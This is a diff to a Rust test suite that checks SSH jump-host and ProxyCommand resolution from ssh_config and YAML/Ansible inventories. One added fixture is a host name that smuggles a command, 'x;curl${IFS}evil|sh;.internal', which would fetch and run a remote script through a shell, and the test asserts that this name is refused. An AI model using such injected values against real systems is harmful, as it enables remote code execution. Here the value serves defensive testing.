@@ -668,12 +668,16 @@ fn jump_hosts_resolve_through_ssh_config_as_ssh_resolves_them() {
          Host inner\n  HostName 10.0.0.2\n  User jumper\n  Port 2201\n  ProxyJump never\n\
          Host outer\n  HostName 10.0.0.3\n\
          Host loop\n  ProxyJump loop\n\
-         Host piped\n  ProxyCommand ssh -W %h:%p -l %r gw # %n %%\n  HostName 10.0.0.9\n  User pu\n",
+         Host piped\n  ProxyCommand ssh -W %h:%p -l %r gw # %n %%\n  HostName 10.0.0.9\n  User pu\n\
+         Host shouting\n  ProxyCommand NONE\n\
+         Host *.internal\n  ProxyCommand ssh gw -W %h:%p\n\
+         Host db-proxy\n  HostName 10.9.9.9\n",
     )
     .unwrap();
     let inv = parse(
         "hosts:\n  t: {proxy_jump: \"gw,inner:23\"}\n  l: {proxy_jump: loop}\n  \
-         piped: {}\n  bad: {proxy_jump: \"gw,,x\"}\n",
+         piped: {}\n  bad: {proxy_jump: \"gw,,x\"}\n  later: {proxy_jump: \"outer,loop\"}\n  \
+         shouting: {}\n  \"x;curl${IFS}evil|sh;.internal\": {}\n",
         Path::new("hosts.yaml"),
         Path::new("/"),
         &context(Some(&home)),
@@ -716,5 +720,34 @@ fn jump_hosts_resolve_through_ssh_config_as_ssh_resolves_them() {
         bad.contains("ProxyJump gw,,x") && bad.contains("empty hop"),
         "{bad}"
     );
+    // A later hop's own ProxyJump is never read (`ssh -J a b` gives b
+    // `-J none`), so loop's ProxyJump loop does not refuse the target.
+    let later = host(&inv, "later");
+    assert_eq!(later.refused, None);
+    let Proxy::Jump(hops) = &later.proxy else {
+        panic!("{:?}", later.proxy)
+    };
+    assert_eq!(hops[1].proxy, Proxy::Direct);
+    // ssh runs a ProxyCommand `NONE`: only `none` means direct.
+    assert_eq!(host(&inv, "shouting").proxy, Proxy::Command("NONE".into()));
+    // A name a shell would read as a command is not put into one.
+    let hostile = host(&inv, "x;curl${IFS}evil|sh;.internal");
+    assert!(
+        hostile
+            .refused
+            .as_deref()
+            .is_some_and(|r| r.contains("a shell would interpret")),
+        "{hostile:?}"
+    );
+    // In an Ansible inventory `ansible_host` is the name ssh is given, so
+    // its HostName is where ssh connects.
+    let ansible = parse(
+        "all:\n  hosts:\n    web1: {ansible_host: db-proxy}\n",
+        Path::new("hosts.yml"),
+        Path::new("/"),
+        &context(Some(&home)),
+    )
+    .unwrap();
+    assert_eq!(host(&ansible, "web1").address, "10.9.9.9");
     std::fs::remove_dir_all(home).unwrap();
 }
